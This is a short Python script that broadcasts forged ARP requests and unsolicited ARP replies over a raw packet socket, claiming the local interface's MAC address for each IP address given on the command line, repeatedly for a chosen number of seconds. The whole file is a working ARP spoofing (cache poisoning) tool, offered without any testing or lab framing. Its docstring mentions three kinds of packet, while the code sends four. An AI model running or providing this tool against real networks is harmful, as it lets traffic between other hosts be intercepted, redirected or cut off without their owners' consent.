"""A program: says ARP in the names of others, by a port: `speaking.py PORT TARGET SECONDS NAME...`.

Three kinds of packets for each name: a question to the target, a gratuitous question, and an answer
that nobody asked for.
"""

import socket
import struct
import sys
import time

ARP = 0x0806
EVERYBODY, NOBODY = b"\xff" * 6, bytes(6)


def packet(operation: int, mac: bytes, sender: bytes, target: bytes) -> bytes:
    """Return an ARP packet (RFC 826)."""
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, mac, sender, NOBODY, target)


def main() -> None:
    port, target, seconds, *names = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as wire:
        wire.bind((port, ARP))
        mac = wire.getsockname()[4]
        end = time.monotonic() + float(seconds)
        while True:
            for name in map(socket.inet_aton, names):
                asked = socket.inet_aton(target)
                for operation, about in ((1, asked), (1, name), (2, name), (2, asked)):
                    said = packet(operation, mac, name, about)
                    wire.sendto(said, (port, ARP, 0, 0, EVERYBODY))
            if time.monotonic() >= end:
                return
            time.sleep(0.05)


if __name__ == "__main__":
    main()
